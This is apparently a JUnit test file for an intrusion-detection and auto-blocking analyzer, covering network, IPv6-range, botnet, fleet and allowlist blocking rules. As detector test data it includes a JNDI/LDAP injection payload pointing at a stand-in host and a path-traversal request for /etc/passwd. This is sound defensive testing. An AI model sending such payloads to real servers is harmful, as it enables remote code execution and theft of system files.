package io.selfheal.analyzer.replay;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.selfheal.analyzer.policy.PolicyBook;
import io.selfheal.analyzer.rules.RuleSet;
import io.selfheal.schemas.alert.Alert;
import io.selfheal.schemas.assess.Assessment;
import io.selfheal.schemas.assess.Subject;
import io.selfheal.schemas.decide.Block;
import io.selfheal.schemas.decide.Decision;
import io.selfheal.schemas.decide.Lift;
import io.selfheal.schemas.event.Authentication;
import io.selfheal.schemas.event.EventAction;
import io.selfheal.schemas.event.EventOutcome;
import io.selfheal.schemas.event.HttpRequest;
import io.selfheal.schemas.event.Origin;
import io.selfheal.schemas.event.SecurityEvent;
import io.selfheal.schemas.net.Cidr;
import io.selfheal.schemas.net.IpAddress;
import io.selfheal.schemas.policy.AllowEntry;
import io.selfheal.schemas.policy.BlockingPolicy;
import io.selfheal.schemas.policy.LoginProtection;
import io.selfheal.schemas.policy.NetworkBlocks;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Users, networks, hosts and the fleet, through sources, groups and back. */
class GroupsTest {
    private static final Instant START = Instant.parse("2026-03-01T12:00:00Z");

    private final Sink sink = new Sink();
    private final PolicyBook policy = PolicyBook.defaults();
    private final ReplayCore replay = new ReplayCore(RuleSet.shipped(), policy, sink);
    private Instant now = START;
    private int made;

    @Test
    void fiveBadMembersOfANetworkBlockTheNetworkToo() {
        attackFrom("198.51.100.", 5);

        Block network = sink.blockOf("198.51.100.0/24");
        assertThat(network.scenarios()).containsExactly("network-members");
        assertThat(network.reason()).isEqualTo("5 bad sources of one network within 24 hours");
        assertThat(network.length()).isEqualTo(Duration.ofHours(4));
        assertThat(network.signals().getFirst().evidence()).isNotEmpty();
        assertThat(sink.blocked()).as("single blocks stay").contains("198.51.100.1", "198.51.100.5");
        assertThat(sink.lifts).isEmpty();
    }

    @Test
    void fourBadMembersDoNot() {
        attackFrom("198.51.100.", 4);

        assertThat(sink.blocked()).hasSize(4).doesNotContain("198.51.100.0/24");
    }

    @Test
    void anIpv6HostThatChangesItsAddressIsBlockedWithItsNetwork() {
        attackFrom("2001:db8:1:2::", 3);

        assertThat(sink.blocked()).contains("2001:db8:1:2::/64");
    }

    @Test
    void whoTakesAnotherNetworkOfHisRangeForEachTryIsBlockedAtTheFirstOfThem() {
        tryOnceFromEachNetwork("2001:db8:1:", 1, 16);

        assertThat(sink.blocked())
                .contains("2001:db8:1:1::7", "2001:db8:1:10::7")
                .doesNotContain("2001:db8:1::/48");
        assertThat(sink.alert("block-withheld").description()).contains("it is wider than /64");

        tryOnceFromEachNetwork("2001:db8:1:", 17, 1);

        Block newcomer = sink.blockOf("2001:db8:1:11::7");
        assertThat(newcomer.scenarios()).contains("ipv6-range-brute-force");
    }

    @Test
    void fifteenNetworksOfARangeWithATryEachAreNotBlocked() {
        tryOnceFromEachNetwork("2001:db8:1:", 1, 15);

        assertThat(sink.blocked()).isEmpty();
    }

    @Test
    void aRangeFromWhichPeopleLogInIsTheirProviders() {
        tryOnceFromEachNetwork("2001:db8:1:", 1, 10);
        replay.accept(login("2001:db8:1:ffff::7", "anna", EventOutcome.SUCCESS));
        tryOnceFromEachNetwork("2001:db8:1:", 11, 15);

        assertThat(sink.blocked()).isEmpty();
    }

    @Test
    void aRangeIsBlockedAsAWholeWherePolicyAllowsIt() {
        policy.apply(blocking(new NetworkBlocks(true, 5, 3, Duration.ofHours(24), 24, 48), LoginProtection.DEFAULT));

        tryOnceFromEachNetwork("2001:db8:1:", 1, 16);

        assertThat(sink.blockOf("2001:db8:1::/48").scenarios()).containsExactly("ipv6-range-brute-force");
    }

    @Test
    void aNetworkWithAnAllowlistedAddressIsNotBlockedAndPeopleHearWhy() {
        policy.apply(new AllowEntry(Cidr.parse("198.51.100.200"), "our office", "anna", null));

        attackFrom("198.51.100.", 6);

        assertThat(sink.blocked()).doesNotContain("198.51.100.0/24").contains("198.51.100.1");
        assertThat(sink.alert("block-withheld").description()).contains("an allowlisted address lies in it");
    }

    @Test
    void aNetworkFromWhichSomebodyLoggedInLatelyIsNotBlocked() {
        replay.accept(login("198.51.100.77", "anna", EventOutcome.SUCCESS));

        attackFrom("198.51.100.", 6);

        assertThat(sink.blocked()).doesNotContain("198.51.100.0/24").hasSize(6);
        assertThat(sink.alert("block-withheld").description()).contains("a login from it succeeded lately");
    }

    @Test
    void aLoginProtectsItsNetworkOnlyForAWhile() {
        replay.accept(login("198.51.100.77", "anna", EventOutcome.SUCCESS));
        now = now.plus(Duration.ofHours(25));

        attackFrom("198.51.100.", 5);

        assertThat(sink.blocked()).contains("198.51.100.0/24");
    }

    @Test
    void privateNetworksAreNeverBlockedAsAWhole() {
        attackFrom("10.1.2.", 8);
        attackFrom("fd00:1:2:3::", 8);
        attackFrom("100.64.7.", 8);

        assertThat(sink.blocked()).noneMatch(target -> target.contains("/"));
    }

    @Test
    void thePolicySaysHowManyMembersAreTooMany() {
        policy.apply(blocking(new NetworkBlocks(true, 3, 3, Duration.ofHours(24), 24, 64), LoginProtection.DEFAULT));

        attackFrom("198.51.100.", 3);

        assertThat(sink.blocked()).contains("198.51.100.0/24");
    }

    @Test
    void aPolicyWithoutNetworkBlocksIsObeyed() {
        policy.apply(blocking(new NetworkBlocks(false, 3, 3, Duration.ofHours(24), 24, 64), LoginProtection.DEFAULT));

        attackFrom("198.51.100.", 9);

        assertThat(sink.blocked()).hasSize(9).noneMatch(target -> target.contains("/"));
    }

    @Test
    void aNetworkThatGoesOnIsBlockedForTwiceAsLong() {
        attackFrom("198.51.100.", 5);
        now = now.plus(Duration.ofHours(5));

        attack("198.51.100.9");

        assertThat(sink.blocks.stream().filter(b -> b.key().equals("198.51.100.0/24")))
                .extracting(Block::offence, Block::length)
                .containsExactly(tuple(1, Duration.ofHours(4)), tuple(2, Duration.ofHours(8)));
        assertThat(sink.lifts).extracting(Lift::key).contains("198.51.100.0/24");
    }

    @Test
    void somebodyWhoLoggedInLatelyMayMistypeHisPassword() {
        String office = "198.51.100.20";
        replay.accept(login(office, "anna", EventOutcome.SUCCESS));
        for (int i = 0; i < 8; i++) {
            replay.accept(login(office, "anna", EventOutcome.FAILURE));
        }

        assertThat(sink.blocked()).isEmpty();
        assertThat(sink.alert("block-withheld").description()).contains("a login from it succeeded lately");
    }

    @Test
    void twentyFailuresAreNoTypingMistake() {
        String office = "198.51.100.20";
        replay.accept(login(office, "anna", EventOutcome.SUCCESS));
        for (int i = 0; i < 20; i++) {
            replay.accept(login(office, "anna", EventOutcome.FAILURE));
        }

        assertThat(sink.blocked()).containsExactly(office);
    }

    @Test
    void aLoginThatMayHaveBeenGuessedProtectsNobody() {
        String attacker = "198.51.100.20";
        policy.apply(withoutAutoBlock());
        for (int i = 0; i < 6; i++) {
            replay.accept(login(attacker, "anna", EventOutcome.FAILURE));
        }
        replay.accept(login(attacker, "anna", EventOutcome.SUCCESS));
        policy.apply(BlockingPolicy.DEFAULT);

        replay.accept(login(attacker, "bert", EventOutcome.FAILURE));
        now = now.plus(Duration.ofHours(2));
        attack(attacker);

        assertThat(sink.blocked()).containsExactly(attacker);
    }

    @Test
    void anAttackFromWhereSomebodyLoggedInIsBlockedAllTheSame() {
        String office = "198.51.100.20";
        replay.accept(login(office, "anna", EventOutcome.SUCCESS));

        replay.accept(request(office, "/?x=${jndi:ldap://192.0.2.9/a}"));

        assertThat(sink.blocked()).containsExactly(office);
    }

    @Test
    void aBotnetThatTriesOneAccountIsSeenAtTheAccountAndHeldAgainstEachBot() {
        for (int i = 1; i <= 14; i++) {
            replay.accept(login("203.0." + i + ".9", "shop", EventOutcome.FAILURE));
        }

        Assessment user = sink.of(Subject.Kind.USER);
        assertThat(user.subject().value()).isEqualTo("shop");
        assertThat(user.scenarios()).containsExactly("user-distributed-brute-force");
        assertThat(user.score()).isGreaterThanOrEqualTo(60);
        List<String> blamed = sink.assessments.stream()
                .filter(a -> a.subject().kind() == Subject.Kind.SOURCE)
                .filter(a -> a.scenarios().contains("user-distributed-brute-force"))
                .map(a -> a.subject().value())
                .toList();
        assertThat(blamed)
                .as("those before it fired, and each newcomer once")
                .hasSize(14)
                .doesNotHaveDuplicates();
    }

    @Test
    void anAllowlistedSourceTakesNoPartInIt() {
        policy.apply(new AllowEntry(Cidr.parse("203.0.0.0/16"), "our scanners", "anna", null));

        for (int i = 1; i <= 14; i++) {
            replay.accept(login("203.0." + i + ".9", "shop", EventOutcome.FAILURE));
        }

        assertThat(sink.assessments).isEmpty();
    }

    @Test
    void threeTriesOnEachOfTwentyHostsOfTheFleetAreSeen() {
        for (int round = 0; round < 3; round++) {
            for (int host = 1; host <= 20; host++) {
                replay.accept(login("203.0.113.9", "root", EventOutcome.FAILURE, 1, "n" + host));
                now = now.plus(Duration.ofMinutes(20));
            }
        }

        assertThat(sink.blocked()).contains("203.0.113.9");
        assertThat(sink.assessments).anySatisfy(a -> assertThat(a.scenarios()).contains("fleet-low-and-slow"));
    }

    @Test
    void requestsAreNotShared() {
        for (int i = 1; i <= 300; i++) {
            replay.accept(request("203.0.113." + i % 250, "/index.html"));
        }

        assertThat(sink.assessments).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8})
    void theSameEventsGiveTheSameFindingsAndRepeatsGiveNothing(long seed) {
        List<SecurityEvent> story = story(new Random(seed));

        Sink once = play(story, 1, new Random(seed));
        Sink again = play(story, 1, new Random(seed));
        Sink repeated = play(story, 4, new Random(seed));

        assertThat(once.assessments).isNotEmpty().isEqualTo(again.assessments).isEqualTo(repeated.assessments);
        assertThat(once.blocks).isEqualTo(again.blocks).isEqualTo(repeated.blocks);
        assertThat(once.alerts).isEqualTo(again.alerts).isEqualTo(repeated.alerts);
    }

    private static Sink play(List<SecurityEvent> story, int repeatUpTo, Random random) {
        Sink sink = new Sink();
        ReplayCore replay = new ReplayCore(RuleSet.shipped(), PolicyBook.defaults(), sink);
        for (int i = 0; i < story.size(); i++) {
            replay.accept(story.get(i));
            for (int back = random.nextInt(repeatUpTo); back > 0; back--) {
                replay.accept(story.get(Math.max(0, i - random.nextInt(50))));
            }
        }
        return sink;
    }

    /** A day with a botnet, a bad network, people who mistype, and a service that crashes. */
    private List<SecurityEvent> story(Random random) {
        List<SecurityEvent> events = new ArrayList<>();
        for (int i = 0; i < 600; i++) {
            now = now.plusSeconds(random.nextInt(30));
            String bot = "203.0." + random.nextInt(40) + ".9";
            String neighbour = "198.51.100." + random.nextInt(30);
            events.add(
                    switch (random.nextInt(5)) {
                        case 0 -> login(bot, "shop", EventOutcome.FAILURE);
                        case 1 -> login(neighbour, "u" + random.nextInt(50), EventOutcome.FAILURE);
                        case 2 -> login("192.0.2." + random.nextInt(20), "anna", EventOutcome.SUCCESS);
                        case 3 -> login("192.0.2." + random.nextInt(20), "anna", EventOutcome.FAILURE);
                        default -> request(neighbour, random.nextInt(20) == 0 ? "/?a=../../etc/passwd" : "/");
                    });
        }
        return events;
    }

    private void tryOnceFromEachNetwork(String range, int first, int count) {
        for (int i = first; i < first + count; i++) {
            replay.accept(login(range + Integer.toHexString(i) + "::7", "root", EventOutcome.FAILURE));
            now = now.plusSeconds(60);
        }
    }

    private void attackFrom(String prefix, int members) {
        for (int i = 1; i <= members; i++) {
            attack(prefix + i);
        }
    }

    private void attack(String source) {
        for (int i = 0; i < 5; i++) {
            replay.accept(login(source, "root", EventOutcome.FAILURE));
        }
    }

    private SecurityEvent login(String source, String user, EventOutcome outcome) {
        return login(source, user, outcome, 1);
    }

    private SecurityEvent login(String source, String user, EventOutcome outcome, int count) {
        return login(source, user, outcome, count, "web1");
    }

    private SecurityEvent login(String source, String user, EventOutcome outcome, int count, String host) {
        return new Authentication(
                origin(source, count, host), EventAction.LOGIN, outcome, "ssh", user, false, "password", null);
    }

    private SecurityEvent request(String source, String url) {
        return new HttpRequest(origin(source, 1, "web1"), "GET", url, "1.1", 200, 512, null, "Mozilla/5.0", null, null);
    }

    private Origin origin(String source, int count, String host) {
        made++;
        now = now.plusSeconds(1);
        return new Origin(
                "event-" + made,
                now,
                host,
                "test",
                IpAddress.parse(source),
                0,
                null,
                count,
                null,
                10_000 + made,
                null,
                null);
    }

    private static BlockingPolicy withoutAutoBlock() {
        BlockingPolicy d = BlockingPolicy.DEFAULT;
        return new BlockingPolicy(
                "test",
                false,
                d.blockScore(),
                d.autoActionMinScore(),
                d.firstBlock(),
                d.longestBlock(),
                d.forgetOffencesAfter(),
                d.cap());
    }

    private static BlockingPolicy blocking(NetworkBlocks networks, LoginProtection protection) {
        BlockingPolicy d = BlockingPolicy.DEFAULT;
        return new BlockingPolicy(
                "test",
                d.mode(),
                true,
                d.blockScore(),
                d.autoActionMinScore(),
                d.firstBlock(),
                d.longestBlock(),
                d.forgetOffencesAfter(),
                d.cap(),
                networks,
                protection);
    }

    private static final class Sink implements ReplaySink {
        private final List<Assessment> assessments = new ArrayList<>();
        private final List<Block> blocks = new ArrayList<>();
        private final List<Lift> lifts = new ArrayList<>();
        private final List<Alert> alerts = new ArrayList<>();

        @Override
        public void assessment(Assessment assessment) {
            assessments.add(assessment);
        }

        @Override
        public void decision(Decision decision) {
            switch (decision) {
                case Block b -> blocks.add(b);
                case Lift l -> lifts.add(l);
            }
        }

        @Override
        public void alert(Alert alert) {
            alerts.add(alert);
        }

        List<String> blocked() {
            return blocks.stream().map(Block::key).toList();
        }

        Block blockOf(String target) {
            return blocks.stream()
                    .filter(b -> b.key().equals(target))
                    .findFirst()
                    .orElseThrow();
        }

        Alert alert(String kind) {
            return alerts.stream()
                    .filter(a -> a.kind().equals(kind))
                    .findFirst()
                    .orElseThrow();
        }

        Assessment of(Subject.Kind kind) {
            return assessments.stream()
                    .filter(a -> a.subject().kind() == kind)
                    .findFirst()
                    .orElseThrow();
        }
    }
}
